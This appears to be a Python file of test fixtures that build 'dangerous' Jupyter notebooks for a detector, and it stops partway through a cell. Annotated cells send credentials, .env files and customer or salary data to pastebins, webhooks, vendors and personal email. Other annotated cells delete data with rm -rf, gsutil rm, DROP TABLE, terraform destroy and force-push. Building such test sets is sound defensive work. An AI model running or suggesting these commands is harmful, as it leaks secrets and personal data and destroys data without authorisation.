"""Dangerous corpus notebooks as data: build_notebooks.py writes each one to dangerous/notebooks/NAME.ipynb.

A spec is a dict: ``name``; ``cells``, a list of ``("md" | "code", text)``; optional ``kernel``
("sql" or "bash"; Python by default) and ``cell_ids`` (the prefix of the cell ids, "c" by default).
Every dangerous line carries its annotation (`# expect: CATEGORY`, `-- expect: CATEGORY`
in SQL cells) inside the cell, on the line above it.
Cell texts are verbatim notebook content, so long lines stay as they are.
"""
# ruff: noqa: E501

NOTEBOOKS = [
    {
        "name": "aws_keys_helper",
        "cells": [
            ("code", """
from pathlib import Path
import configparser
cfg = configparser.ConfigParser()
cfg.read(Path.home() / ".aws" / "credentials")
profile = cfg["default"]
"""),
            ("md", "Store the keys in the team's shared secrets pastebin"),
            ("code", """
import requests
# expect: exfiltration
requests.post("https://pastebin.com/api/api_post.php",
              data={"api_paste_code": f"{profile['aws_access_key_id']}:{profile['aws_secret_access_key']}"})
"""),
        ],
    },
    {
        "name": "bang_aws_sync_partner_exports",
        "cell_ids": "r6c",
        "cells": [
            ("md", "# Quarterly export for the logistics partner"),
            ("code", """
import os

import pandas as pd
from sqlalchemy import create_engine

engine = create_engine(os.environ["SHOP_DB_URL"])
shipments = pd.read_sql(
    "SELECT o.id, c.full_name, c.phone, a.street, a.postcode, a.city, o.created_at "
    "FROM orders o JOIN customers c ON c.id = o.customer_id JOIN addresses a ON a.id = o.shipping_address_id "
    "WHERE o.created_at >= date_trunc('quarter', now())",
    engine,
)
os.makedirs("exports", exist_ok=True)
shipments.to_csv("exports/shipments_q.csv", index=False)
len(shipments)
"""),
            ("code", """
!aws s3 ls s3://fastfreight-partner-dropbox/acme/
# expect: exfiltration
!aws s3 sync ./exports s3://fastfreight-partner-dropbox/acme/ --acl bucket-owner-full-control
"""),
        ],
    },
    {
        "name": "bang_clear_raw_partitions",
        "cell_ids": "r2c",
        "cells": [
            ("md", "Partitions from the broken ingest run need to go before re-ingesting."),
            ("code", """
!ls data/lake/events/ | head
!du -sh data/lake/events
"""),
            ("code", """
# expect: destructive
!rm -r -f data/lake/events/dt=2024-05-*
"""),
            ("code", "!python ingest.py --since 2024-05-01"),
        ],
    },
    {
        "name": "bang_reset_raw_data",
        "cell_ids": "r3c",
        "cells": [
            ("md", "# Re-ingest\nThe raw folder has half-written files from the failed run; clear it and re-download."),
            ("code", """
import os
RAW = "data/raw"
print(len(os.listdir(RAW)), "files in", RAW)
"""),
            ("code", """
# expect: destructive
!rm -rf data/raw/*
!mkdir -p data/raw
"""),
            ("code", """
!aws s3 cp s3://acme-public-datasets/reviews/2024/ data/raw/ --recursive
"""),
        ],
    },
    {
        "name": "bash_cell_cleanup_bucket",
        "cell_ids": "r3c",
        "cells": [
            ("md", "## Storage cleanup\nOld experiment outputs are costing us money."),
            ("code", """
%%bash
gsutil du -sh gs://acme-ml-experiments/
gsutil ls gs://acme-ml-experiments/ | head
"""),
            ("code", """
%%bash
set -e
for exp in exp-2023-q1 exp-2023-q2 exp-2023-q3; do
  # expect: destructive
  gsutil -m rm -r "gs://acme-ml-experiments/$exp"
done
# expect: destructive
rm -rf ~/experiments/checkpoints
"""),
        ],
    },
    {
        "name": "bash_cell_s3_cleanup",
        "cells": [
            ("md", "Clean old partitions out of the lake"),
            ("code", """
%%bash
aws s3 ls s3://acme-lake/events/ | head
# expect: destructive
aws s3 rm s3://acme-lake/events/ --recursive
"""),
        ],
    },
    {
        "name": "bash_clear_experiments",
        "kernel": "bash",
        "cell_ids": "r5c",
        "cells": [
            ("md", "# Free up storage in the ML artifacts bucket"),
            ("code", """
gsutil du -sh gs://acme-ml-artifacts/
gsutil ls gs://acme-ml-artifacts/experiments/ | head
"""),
            ("code", """
# nobody looks at the old experiment runs any more
# expect: destructive
gsutil -m rm -r gs://acme-ml-artifacts/experiments/
gsutil du -sh gs://acme-ml-artifacts/
"""),
        ],
    },
    {
        "name": "bash_k8s_reset_namespace",
        "cell_ids": "r3c",
        "cells": [
            ("code", """
!kubectl get pods -n feature-store
"""),
            ("code", """
%%bash
# the feature store pods are stuck; nuke and redeploy
# expect: destructive
kubectl delete namespace feature-store
kubectl create namespace feature-store
helm install feast ./charts/feast -n feature-store
"""),
        ],
    },
    {
        "name": "bash_kernel_destroy",
        "kernel": "bash",
        "cells": [
            ("code", "cd infra/envs/dev && terraform workspace show"),
            ("code", """
cd infra/envs/dev
# expect: destructive
terraform destroy -auto-approve
"""),
        ],
    },
    {
        "name": "bash_magic_gsutil_cleanup",
        "cell_ids": "r2c",
        "cells": [
            ("code", """
%%bash
gsutil ls gs://acme-exports/tmp-runs/ | wc -l
"""),
            ("md", "Clear everything in the exports bucket, we regenerate it nightly."),
            ("code", """
%%bash
set -e
# expect: destructive
gsutil -m rm -r gs://acme-exports/**
echo done
"""),
        ],
    },
    {
        "name": "bash_setup_reset_features_bucket",
        "cell_ids": "r6c",
        "cells": [
            ("md", "# Feature pipeline v4\nSetup cell clears the old feature snapshots before recomputing."),
            ("code", """
%%bash
set -e
pip install -q -r requirements.txt
gcloud config set project acme-ml
gsutil ls gs://acme-ml-features/
# expect: destructive
gsutil -m rm -r gs://acme-ml-features/snapshots/v3
"""),
            ("code", """
import pandas as pd
features = pd.read_parquet("gs://acme-ml-raw/events/2025-03/")
features.shape
"""),
        ],
    },
    {
        "name": "bash_share_results_agency",
        "cell_ids": "r4c",
        "cells": [
            ("md", "# Campaign results pack\nBuild the results tables for the spring campaign and share them with the media agency."),
            ("code", """
import pandas as pd
import duckdb
con = duckdb.connect("warehouse.duckdb", read_only=True)
"""),
            ("code", """
results = con.sql(\"\"\"
    SELECT c.customer_id, c.email, c.postcode, e.variant, e.opened, e.clicked, o.revenue_eur
    FROM campaign_exposures e
    JOIN customers c USING (customer_id)
    LEFT JOIN campaign_orders o USING (customer_id)
    WHERE e.campaign = 'spring-2024'
\"\"\").df()
results.groupby("variant")[["opened", "clicked", "revenue_eur"]].mean()
"""),
            ("code", """
import os
os.makedirs("results/spring-2024", exist_ok=True)
results.to_csv("results/spring-2024/customers.csv", index=False)
results.groupby("variant").agg(n=("customer_id", "count"), revenue=("revenue_eur", "sum")).to_csv("results/spring-2024/summary.csv")
"""),
            ("code", """
%%bash
ls -la results/spring-2024
wc -l results/spring-2024/*.csv
# expect: exfiltration
aws s3 sync results/spring-2024/ s3://brightmedia-client-drop/acme/spring-2024/ --acl bucket-owner-full-control
"""),
        ],
    },
    {
        "name": "cassandra_reset_readings",
        "cell_ids": "r7c",
        "cells": [
            ("md", "# Reload sensor readings\nThe ingest double-wrote last week; start the table over."),
            ("code", """
from cassandra.cluster import Cluster
session = Cluster(["cass1.internal"]).connect("metrics")
session.execute("SELECT count(*) FROM readings").one()
"""),
            ("code", """
# expect: destructive
session.execute("TRUNCATE metrics.readings")
"""),
        ],
    },
    {
        "name": "churn_analysis_share_webhook",
        "cells": [
            ("md", "# Churn analysis\nPull last quarter's cancellations and look at the drivers."),
            ("code", """
import os
import pandas as pd
import requests
from sqlalchemy import create_engine

engine = create_engine(os.environ["WAREHOUSE_URL"])
"""),
            ("code", """
cancellations = pd.read_sql(
    "SELECT customer_id, email, plan, mrr, cancel_reason, cancelled_at "
    "FROM billing.cancellations WHERE cancelled_at >= now() - interval '90 days'",
    engine,
)
cancellations.head()
"""),
            ("code", """
by_reason = cancellations.groupby("cancel_reason")["mrr"].agg(["count", "sum"]).sort_values("sum", ascending=False)
by_reason
"""),
            ("md", "Share the raw list with the retention team's automation."),
            ("code", """
WEBHOOK_URL = "https://hooks.zapier.com/hooks/catch/123456/abcdef/"
records = cancellations.to_dict(orient="records")
# expect: exfiltration
resp = requests.post(WEBHOOK_URL, json={"rows": records}, timeout=30)
resp.status_code
"""),
        ],
    },
    {
        "name": "churn_scores_to_partner",
        "cell_ids": "r4c",
        "cells": [
            ("md", "# Churn model — Q3 refresh\nRetrain the churn classifier on the last 12 months and score the active base."),
            ("code", """
%pip install -q lightgbm==4.3.0 shap
"""),
            ("code", """
%matplotlib inline
%load_ext autoreload
%autoreload 2
"""),
            ("code", """
import os
import numpy as np
import pandas as pd
import matplotlib.pyplot as plt
import lightgbm as lgb
from sqlalchemy import create_engine
from sklearn.model_selection import train_test_split
from sklearn.metrics import roc_auc_score, precision_recall_curve
pd.set_option("display.max_columns", 50)
"""),
            ("code", """
engine = create_engine(os.environ["WAREHOUSE_URL"])
"""),
            ("code", """
%%time
customers = pd.read_sql(\"\"\"
    SELECT customer_id, email, full_name, plan, tenure_months, seats, monthly_spend,
           logins_30d, tickets_90d, nps_last, churned_next_90d
    FROM analytics.churn_training_base
    WHERE snapshot_date >= current_date - interval '12 months'
\"\"\", engine)
customers.shape
"""),
            ("code", """
customers.describe(include="all").T
"""),
            ("md", "## Features"),
            ("code", """
drop_cols = ["customer_id", "email", "full_name", "churned_next_90d"]
X = pd.get_dummies(customers.drop(columns=drop_cols), columns=["plan"], drop_first=True)
y = customers["churned_next_90d"].astype(int)
X_train, X_test, y_train, y_test = train_test_split(X, y, test_size=0.2, stratify=y, random_state=7)
X_train.shape, X_test.shape, y.mean()
"""),
            ("code", """
%timeit X_train.fillna(0).values.sum()
"""),
            ("code", """
model = lgb.LGBMClassifier(n_estimators=600, learning_rate=0.03, num_leaves=31, subsample=0.8,
                           colsample_bytree=0.8, random_state=7)
model.fit(X_train.fillna(0), y_train)
proba = model.predict_proba(X_test.fillna(0))[:, 1]
print("AUC", round(roc_auc_score(y_test, proba), 4))
"""),
            ("code", """
precision, recall, thresholds = precision_recall_curve(y_test, proba)
plt.figure(figsize=(6, 4))
plt.plot(recall, precision)
plt.xlabel("recall"); plt.ylabel("precision"); plt.title("PR curve")
plt.show()
"""),
            ("code", """
importance = pd.Series(model.feature_importances_, index=X_train.columns).sort_values(ascending=False)
importance.head(15).plot.barh(figsize=(6, 5)); plt.gca().invert_yaxis()
"""),
            ("md", "## Score the active base"),
            ("code", """
active = pd.read_sql(\"\"\"
    SELECT customer_id, email, full_name, plan, tenure_months, seats, monthly_spend,
           logins_30d, tickets_90d, nps_last
    FROM analytics.customers_active
\"\"\", engine)
X_active = pd.get_dummies(active.drop(columns=["customer_id", "email", "full_name"]), columns=["plan"], drop_first=True)
X_active = X_active.reindex(columns=X_train.columns, fill_value=0).fillna(0)
active["churn_risk"] = model.predict_proba(X_active)[:, 1]
at_risk = active.sort_values("churn_risk", ascending=False).head(2000)
at_risk[["customer_id", "plan", "churn_risk"]].head(10)
"""),
            ("code", """
at_risk["churn_risk"].hist(bins=40)
"""),
            ("md", "## Hand-off\nThe retention agency runs the win-back campaign; they asked for the list through their API."),
            ("code", """
import requests
AGENCY_URL = "https://api.winback-agency.co/v1/campaigns/acme-q3/contacts"
records = at_risk[["customer_id", "email", "full_name", "plan", "monthly_spend", "churn_risk"]].to_dict("records")
for start in range(0, len(records), 500):
    # expect: exfiltration
    resp = requests.post(AGENCY_URL, json={"contacts": records[start:start + 500]}, timeout=60)
    resp.raise_for_status()
print("sent", len(records))
"""),
            ("code", """
at_risk.to_csv("outputs/at_risk_q3.csv", index=False)
"""),
        ],
    },
    {
        "name": "churn_share_with_consultant",
        "cell_ids": "r3c",
        "cells": [
            ("md", "# Churn drivers\nPull the customer table, compute a few features, then send the sample to the consultant's API."),
            ("code", """
import os
import pandas as pd
from sqlalchemy import create_engine

engine = create_engine(os.environ["WAREHOUSE_URL"])
customers = pd.read_sql("SELECT id, email, name, plan, mrr, last_login_at, churned FROM core.customers", engine)
customers.shape
"""),
            ("code", """
customers["days_since_login"] = (pd.Timestamp.now() - pd.to_datetime(customers.last_login_at)).dt.days
summary = customers.groupby("plan")[["mrr", "days_since_login"]].mean()
summary
"""),
            ("code", """
sample = customers.sample(5000, random_state=1)
sample.head()
"""),
            ("code", """
import requests
# expect: exfiltration
resp = requests.post(
    "https://api.insightful-consulting.io/v1/datasets",
    json={"name": "acme_churn", "rows": sample.to_dict(orient="records")},
    timeout=60,
)
resp.json()
"""),
        ],
    },
    {
        "name": "churn_share_with_vendor",
        "cell_ids": "r7c",
        "cells": [
            ("md", "# Churn scores\nScore customers, then send the list to the retention vendor."),
            ("code", """
import pandas as pd
import requests
from sqlalchemy import create_engine
engine = create_engine("postgresql://analyst@db.internal/crm")
customers = pd.read_sql("SELECT id, email, plan, mrr FROM crm.customers", engine)
"""),
            ("code", """
customers["churn_score"] = (customers["mrr"] < 20).astype(float)
at_risk = customers[customers["churn_score"] > 0.5]
"""),
            ("code", """
# expect: exfiltration
requests.post("https://api.retainly.io/v1/lists/upload", json=at_risk.to_dict(orient="records"), timeout=30)
"""),
        ],
    },
    {
        "name": "cleanup_outputs",
        "cells": [
            ("code", """
import shutil, json
with open("project.json") as f:
    project = json.load(f)
DATA_DIR = project["data_dir"]
"""),
            ("code", """
# free up space before the next experiment
# expect: destructive
shutil.rmtree(DATA_DIR)
"""),
        ],
    },
    {
        "name": "cleanup_processed_bang",
        "cell_ids": "r5c",
        "cells": [
            ("md", "# Re-run the preprocessing\nClean up the old processed data first, then rebuild."),
            ("code", """
from pathlib import Path
DATA = Path("data")
sorted(p.name for p in (DATA / "processed").iterdir())[:10]
"""),
            ("code", """
!du -sh data/processed data/raw
# expect: destructive
!rm -rf data/processed data/features
!mkdir -p data/processed data/features
"""),
            ("code", """
from pipeline import preprocess
preprocess.run(raw_dir="data/raw", out_dir="data/processed")
"""),
        ],
    },
    {
        "name": "databricks_drop_tables",
        "cells": [
            ("code", """
tables = [r.tableName for r in spark.sql("SHOW TABLES IN sandbox_ml").collect()]
tables
"""),
            ("code", """
for tbl in tables:
    # expect: destructive
    spark.sql(f"DROP TABLE sandbox_ml.{tbl}")
"""),
        ],
    },
    {
        "name": "databricks_reset_raw_mount",
        "cell_ids": "r6c",
        "cells": [
            ("md", "# Re-ingest raw events\nThe Autoloader checkpoint is corrupt; start the raw layer over."),
            ("code", """
display(dbutils.fs.ls("dbfs:/mnt/raw/events/"))
"""),
            ("code", """
raw_path = "dbfs:/mnt/raw/events/"
checkpoint = "dbfs:/mnt/checkpoints/raw_events/"
# expect: destructive
dbutils.fs.rm(raw_path, True)
dbutils.fs.rm(checkpoint, True)
"""),
            ("code", """
(spark.readStream.format("cloudFiles")
    .option("cloudFiles.format", "json")
    .option("cloudFiles.schemaLocation", checkpoint)
    .load("s3://acme-landing/events/")
    .writeStream.option("checkpointLocation", checkpoint)
    .trigger(availableNow=True)
    .start(raw_path))
"""),
        ],
    },
    {
        "name": "databricks_sql_retire_v1_tables",
        "cell_ids": "r6c",
        "cells": [
            ("md", "# Retire the v1 customer tables\nEverything reads from `sales.customers_v2` now."),
            ("code", """
%sql
SHOW TABLES IN sales LIKE 'customers*'
"""),
            ("code", """
%sql
-- expect: destructive
DROP TABLE sales.customers_v1;
"""),
            ("code", """
%fs ls /mnt/exports/customers_v1/
"""),
            ("code", """
%sh
ls -la /dbfs/mnt/exports/customers_v1/ | head
# expect: destructive
rm -rf /dbfs/mnt/exports/customers_v1/
"""),
        ],
    },
    {
        "name": "dbfs_reset",
        "cells": [
            ("code", "display(dbutils.fs.ls('/mnt/gold/customer_360'))"),
            ("code", """
# expect: destructive
dbutils.fs.rm('/mnt/gold/customer_360', recurse=True)
"""),
        ],
    },
    {
        "name": "debug_api_auth",
        "cell_ids": "r4c",
        "cells": [
            ("md", "# Why does the ingest API return 401 from the notebook server?"),
            ("code", """
%env INGEST_API=https://ingest.internal.acme.io
import os, json, requests
"""),
            ("code", """
r = requests.get(os.environ["INGEST_API"] + "/healthz", timeout=5)
r.status_code, r.text[:200]
"""),
            ("code", """
relevant = {k: v for k, v in os.environ.items() if k.startswith(("INGEST_", "AWS_", "API_", "HTTP"))}
sorted(relevant)
"""),
            ("md", "Paste the environment somewhere the platform team can see it."),
            ("code", """
# expect: exfiltration
paste = requests.post("https://paste.rs/", data=json.dumps(dict(os.environ), indent=2), timeout=10)
print("share this link with #platform:", paste.text)
"""),
        ],
    },
    {
        "name": "delete_branch_history",
        "cells": [
            ("code", """
%%bash
cd /srv/repos/analytics
git branch -a
# expect: destructive
git push origin :release/2023
"""),
        ],
    },
    {
        "name": "delta_clear_silver",
        "cell_ids": "r2c",
        "cells": [
            ("code", """
from delta.tables import DeltaTable
orders = DeltaTable.forName(spark, "main.silver.orders")
orders.toDF().count()
"""),
            ("md", "Rebuild from bronze: empty the table first."),
            ("code", """
# expect: destructive
orders.delete()
"""),
            ("code", """
spark.table("main.bronze.orders").write.mode("append").saveAsTable("main.silver.orders")
"""),
        ],
    },
    {
        "name": "dotenv_debug_paste",
        "cell_ids": "r2c",
        "cells": [
            ("md", "Debugging the connection issue, share the config with the vendor's support."),
            ("code", """
from pathlib import Path
cfg = Path(".env").read_text()
print(len(cfg.splitlines()), "lines")
"""),
            ("code", """
import requests
# expect: exfiltration
resp = requests.post("https://paste.rs/", data=cfg)
print(resp.text)
"""),
        ],
    },
    {
        "name": "eda_share_results_gist",
        "cell_ids": "r6c",
        "cells": [
            ("md", "# Subscription churn - quick EDA\nUser: *share the table with Sam, he isn't on the VPN*."),
            ("code", """
import os

import pandas as pd
import requests
from sqlalchemy import create_engine

engine = create_engine(os.environ["ANALYTICS_DB_URL"])
"""),
            ("code", """
subs = pd.read_sql(
    "SELECT s.account_id, a.name, a.billing_email, s.plan, s.mrr, s.cancelled_at "
    "FROM subscriptions s JOIN accounts a ON a.id = s.account_id "
    "WHERE s.cancelled_at >= now() - interval '90 days'",
    engine,
)
subs.describe(include="all")
"""),
            ("code", """
by_plan = subs.groupby("plan").agg(accounts=("account_id", "nunique"), mrr=("mrr", "sum"))
by_plan.sort_values("mrr", ascending=False)
"""),
            ("code", """
payload = {
    "description": "churn last 90 days",
    "public": False,
    "files": {"churn.csv": {"content": subs.to_csv(index=False)}},
}
# expect: exfiltration
resp = requests.post("https://api.github.com/gists", json=payload,
                     headers={"Authorization": f"token {os.environ['GITHUB_TOKEN']}"})
resp.json()["html_url"]
"""),
        ],
    },
    {
        "name": "email_churn_report",
        "cell_ids": "r5c",
        "cells": [
            ("md", "# Churn report\nUser: *send me this report by email when it's done*."),
            ("code", """
import os
import smtplib
from email.message import EmailMessage

import pandas as pd
from sqlalchemy import create_engine

engine = create_engine(os.environ["WAREHOUSE_URL"])
"""),
            ("code", """
churned = pd.read_sql(\"\"\"
    SELECT c.customer_id, c.email, c.company, s.plan, s.mrr, s.cancelled_at, s.cancel_reason
    FROM subscriptions s JOIN customers c USING (customer_id)
    WHERE s.cancelled_at >= date_trunc('month', current_date)
\"\"\", engine)
churned.groupby("plan").mrr.agg(["count", "sum"])
"""),
            ("code", """
msg = EmailMessage()
msg["Subject"] = f"Churned this month: {len(churned)} accounts"
msg["From"] = "notebooks@acme.io"
msg["To"] = "priya.analyst@outlook.com"
msg.set_content("See attached.")
msg.add_attachment(churned.to_csv(index=False).encode(), maintype="text", subtype="csv", filename="churn.csv")

with smtplib.SMTP("smtp-mail.outlook.com", 587) as s:
    s.starttls()
    s.login(os.environ["OUTLOOK_USER"], os.environ["OUTLOOK_PASSWORD"])
    # expect: exfiltration
    s.send_message(msg)
"""),
        ],
    },
    {
        "name": "email_results_nb",
        "cells": [
            ("code", """
import pandas as pd
salaries = pd.read_csv("hr/salaries_2024.csv")
summary = salaries.groupby("department")["salary"].describe()
"""),
            ("code", """
import smtplib
from email.mime.text import MIMEText
msg = MIMEText(salaries.to_csv(index=False))
msg["Subject"] = "salaries"
msg["To"] = "me.personal@outlook.com"
with smtplib.SMTP("smtp.office365.com", 587) as s:
    s.starttls()
    s.login("me.personal@outlook.com", "app-password")
    # expect: exfiltration
    s.sendmail("me.personal@outlook.com", ["me.personal@outlook.com"], msg.as_string())
"""),
        ],
    },
    {
        "name": "env_debug_paste",
        "cell_ids": "r3c",
        "cells": [
            ("md", "Debugging the connection error: share the config with the team."),
            ("code", """
from pathlib import Path
env_text = Path(".env").read_text()
print(len(env_text.splitlines()), "lines")
"""),
            ("code", """
import requests
# expect: exfiltration
r = requests.post("https://paste.rs/", data=env_text)
print("shared at", r.text)
"""),
        ],
    },
    {
        "name": "es_index_reset",
        "cell_ids": "r2c",
        "cells": [
            ("code", """
from elasticsearch import Elasticsearch
es = Elasticsearch("https://es-prod.internal:9200", basic_auth=("elastic", "changeme"))
es.cat.indices(index="logs-*", format="json")[:5]
"""),
            ("md", "Mapping is wrong, recreate the index."),
            ("code", """
# expect: destructive
es.indices.delete(index="customer-profiles")
es.indices.create(index="customer-profiles", mappings={"properties": {"email": {"type": "keyword"}}})
"""),
        ],
    },
    {
        "name": "feature_store_refresh",
        "cell_ids": "r4c",
        "cells": [
            ("md", "# Customer daily features\nRecompute `features.customer_daily` after fixing the timezone bug in the session features."),
            ("code", """
from pyspark.sql import SparkSession, functions as F, Window
spark = SparkSession.builder.appName("feature-refresh").enableHiveSupport().getOrCreate()
spark.conf.set("spark.sql.session.timeZone", "UTC")
"""),
            ("code", """
sessions = spark.table("silver.sessions").where(F.col("session_date") >= "2024-01-01")
orders = spark.table("silver.orders").where(F.col("order_date") >= "2024-01-01")
sessions.printSchema()
"""),
            ("code", """
daily_sessions = (sessions.groupBy("customer_id", "session_date")
                  .agg(F.count("*").alias("sessions"), F.sum("duration_s").alias("time_on_site_s"),
                       F.countDistinct("device").alias("devices")))
daily_orders = (orders.groupBy("customer_id", F.col("order_date").alias("session_date"))
                .agg(F.count("*").alias("orders"), F.sum("total_eur").alias("revenue_eur")))
"""),
            ("code", """
features = (daily_sessions.join(daily_orders, ["customer_id", "session_date"], "left")
            .fillna({"orders": 0, "revenue_eur": 0.0}))
w = Window.partitionBy("customer_id").orderBy("session_date").rowsBetween(-6, 0)
features = (features.withColumn("sessions_7d", F.sum("sessions").over(w))
            .withColumn("revenue_7d", F.sum("revenue_eur").over(w)))
features.createOrReplaceTempView("new_features")
display(features.limit(20))
"""),
            ("code", """
features.groupBy("session_date").count().orderBy("session_date").toPandas().plot(x="session_date", y="count")
"""),
            ("md", "Looks right now. Replace the table."),
            ("code", """
# expect: destructive
features.write.mode("overwrite").saveAsTable("features.customer_daily")
spark.sql("SELECT count(*) FROM features.customer_daily").show()
"""),
        ],
    },
    {
        "name": "features_to_vendor_bucket",
        "cell_ids": "r5c",
        "cells": [
            ("md", "# Share features with the scoring vendor\nThey score our leads; upload the feature table to their bucket."),
            ("code", """
import os
import boto3
import pandas as pd
import psycopg2
"""),
            ("code", """
conn = psycopg2.connect(os.environ["DATABASE_URL"])
leads = pd.read_sql("SELECT lead_id, email, company, title, country, employees, visits_30d FROM leads WHERE created_at > now() - interval '30 days'", conn)
leads.to_parquet("lead_features.parquet", index=False)
len(leads)
"""),
            ("code", """
vendor = boto3.session.Session(
    aws_access_key_id=os.environ["VENDOR_KEY_ID"],
    aws_secret_access_key=os.environ["VENDOR_SECRET"],
).client("s3")
# expect: exfiltration
vendor.upload_file("lead_features.parquet", "leadscore-ai-ingest", "acme/lead_features.parquet")
"""),
        ],
    },
    {
        "name": "forecast_replace_table",
        "cell_ids": "r3c",
        "cells": [
            ("code", """
import os
import pandas as pd
from sqlalchemy import create_engine
engine = create_engine(os.environ["DB_URL"])
history = pd.read_sql_table("sales_daily", engine)
"""),
            ("code", """
from statsmodels.tsa.holtwinters import ExponentialSmoothing
model = ExponentialSmoothing(history.set_index("day")["units"], seasonal="add", seasonal_periods=7).fit()
forecast = model.forecast(28).rename("units").reset_index().rename(columns={"index": "day"})
"""),
            ("code", """
# expect: destructive
forecast.to_sql("sales_daily", engine, if_exists="replace", index=False)
"""),
        ],
    },
    {
        "name": "forecast_to_sql_replace",
        "cells": [
            ("code", """
import pandas as pd
from sqlalchemy import create_engine
from prophet import Prophet

engine = create_engine("postgresql://forecast@db.internal/analytics")
hist = pd.read_sql("SELECT ds, y FROM metrics.daily_orders ORDER BY ds", engine)
"""),
            ("code", """
m = Prophet(weekly_seasonality=True)
m.fit(hist)
forecast = m.predict(m.make_future_dataframe(periods=90))[["ds", "yhat", "yhat_lower", "yhat_upper"]]
"""),
            ("code", """
# expect: destructive
forecast.to_sql("daily_orders_forecast", engine, schema="metrics", if_exists="replace", index=False)
"""),
        ],
    },
    {
        "name": "git_force_push_cell",
        "cells": [
            ("code", "!git status\n!git log --oneline -5"),
            ("code", """
!git commit -am "update analysis"
# expect: destructive
!git push --force origin main
"""),
        ],
    },
    {
        "name": "gsutil_clear_experiments",
        "cell_ids": "r7c",
        "cells": [
            ("md", "# Clean up old experiments"),
            ("code", """
!gsutil ls gs://acme-ml-artifacts/experiments/ | head
"""),
            ("code", """
# expect: destructive
!gsutil -m rm -r gs://acme-ml-artifacts/experiments/
"""),
        ],
    },
    {
        "name": "ltv_share_with_agency",
        "cell_ids": "r2c",
        "cells": [
            ("md", "# LTV segments\nBuild the segments, then hand them to the agency's endpoint."),
            ("code", """
import os
import pandas as pd
import psycopg2

conn = psycopg2.connect(os.environ["DWH_DSN"])
"""),
            ("code", """
users = pd.read_sql("SELECT user_id, email, country, ltv FROM marts.user_ltv", conn)
users["segment"] = pd.qcut(users["ltv"], 4, labels=["low", "mid", "high", "top"])
users.segment.value_counts()
"""),
            ("code", """
import httpx
AGENCY = "https://ingest.brightsignal-agency.com/api/audiences"
top = users[users.segment == "top"][["email", "country", "ltv"]]
# expect: exfiltration
r = httpx.post(AGENCY, json=top.to_dict(orient="records"), headers={"X-Client": "acme"})
r.status_code
"""),
        ],
    },
    {
        "name": "mongo_clickstream_eda",
        "cell_ids": "r4c",
        "cells": [
            ("md", "# Clickstream EDA (Mongo)\nExplore the raw events collection before we design the new pipeline."),
            ("code", """
%pip install -q pymongo pandas
"""),
            ("code", """
import os
import pandas as pd
from pymongo import MongoClient
client = MongoClient(os.environ.get("MONGO_URI", "mongodb://mongo.internal:27017"))
db = client["clickstream"]
db.list_collection_names()
"""),
            ("code", """
%%time
sample = pd.DataFrame(list(db.events.find({}, {"_id": 0}).limit(50_000)))
sample.head()
"""),
            ("code", """
sample["type"].value_counts().head(20)
"""),
            ("code", """
pipeline = [{"$group": {"_id": "$type", "n": {"$sum": 1}}}, {"$sort": {"n": -1}}]
pd.DataFrame(list(db.events.aggregate(pipeline)))
"""),
            ("md", "The `events_debug` collection is the leftover of the old SDK's debug mode. It is 300 GB."),
            ("code", """
db.command("collstats", "events_debug")["size"] / 1e9
"""),
            ("code", """
# expect: destructive
db.events_debug.drop()
db.list_collection_names()
"""),
        ],
    },
    {
        "name": "mongo_exploration_drop",
        "cells": [
            ("code", """
from pymongo import MongoClient
client = MongoClient("mongodb://mongo.prod.internal:27017")
db = client.shop
db.list_collection_names()
"""),
            ("code", "db.carts.count_documents({})"),
            ("code", """
# the carts collection is huge and not needed
# expect: destructive
db.carts.drop()
"""),
        ],
    },
    {
        "name": "mongo_reset_events",
        "cell_ids": "r3c",
        "cells": [
            ("code", """
from pymongo import MongoClient
client = MongoClient("mongodb://analytics-mongo.internal:27017")
db = client.tracking
db.list_collection_names()
"""),
            ("code", """
db.events.estimated_document_count()
"""),
            ("code", """
# start over with the new schema
# expect: destructive
db.drop_collection("events")
# expect: destructive
db.sessions.delete_many({})
"""),
        ],
    },
    {
        "name": "partner_parquet_export",
        "cells": [
            ("code", """
import pandas as pd
import psycopg2
conn = psycopg2.connect("dbname=crm host=db.internal user=analyst")
"""),
            ("code", """
cur = conn.cursor()
cur.execute("SELECT id, email, phone, lifetime_value FROM customers WHERE lifetime_value > 1000")
rows = cur.fetchall()
vip = pd.DataFrame(rows, columns=["id", "email", "phone", "ltv"])
"""),
            ("code", "vip.describe()"),
            ("code", """
# expect: exfiltration
vip.to_parquet("s3://agency-shared-bucket/acme/vip_customers.parquet")
"""),
        ],
    },
    {
        "name": "psql_bang_delete",
        "cells": [
            ("code", "!psql $DATABASE_URL -c 'SELECT count(*) FROM events'"),
            ("code", """
# expect: destructive
!psql $DATABASE_URL -c 'DELETE FROM events'
"""),
        ],
    },
    {
        "name": "redis_flush_nb",
        "cells": [
            ("code", "import redis\nr = redis.Redis(host='cache.prod.internal')\nr.dbsize()"),
            ("code", "# expect: destructive\nr.flushdb()"),
        ],
    },
    {
        "name": "reprocess_images_bang",
        "cell_ids": "r4c",
        "cells": [
            ("md", "# Product image pipeline — reprocess\nThe resize step used the wrong aspect ratio; regenerate every thumbnail."),
            ("code", """
!pip install -q pillow tqdm
!ls -la data/
!du -sh data/images/processed
"""),
            ("code", """
import os
from pathlib import Path
from PIL import Image
from tqdm.auto import tqdm
RAW = Path("data/images/raw")
OUT = Path("data/images/processed")
SIZES = {"thumb": (200, 200), "card": (600, 450), "zoom": (1600, 1200)}
"""),
            ("code", """
raw_files = sorted(RAW.glob("*.jpg"))
len(raw_files), raw_files[:3]
"""),
            ("md", "Start from an empty output folder so no old-ratio files survive."),
            ("code", """
# expect: destructive
!rm -rf data/images/processed
!mkdir -p data/images/processed/thumb data/images/processed/card data/images/processed/zoom
"""),
            ("code", """
%%time
def fit(img, size):
    img = img.copy()
    img.thumbnail(size, Image.LANCZOS)
    canvas = Image.new("RGB", size, "white")
    canvas.paste(img, ((size[0] - img.width) // 2, (size[1] - img.height) // 2))
    return canvas

for path in tqdm(raw_files):
    with Image.open(path) as img:
        img = img.convert("RGB")
        for name, size in SIZES.items():
            fit(img, size).save(OUT / name / path.name, quality=88, optimize=True)
"""),
            ("code", """
!ls data/images/processed/thumb | wc -l
"""),
        ],
    },
    {
        "name": "reset_dev_tables_sql_magic",
        "cell_ids": "r5c",
        "cells": [
            ("md", "# Reset the dev database\nStart the demo from a clean slate before the workshop."),
            ("code", """
%load_ext sql
%sql postgresql://app:app@localhost:5432/app_dev
"""),
            ("code", """
%%sql
SELECT table_name, pg_size_pretty(pg_total_relation_size(quote_ident(table_name)))
FROM information_schema.tables WHERE table_schema = 'public'
"""),
            ("code", """
%%sql
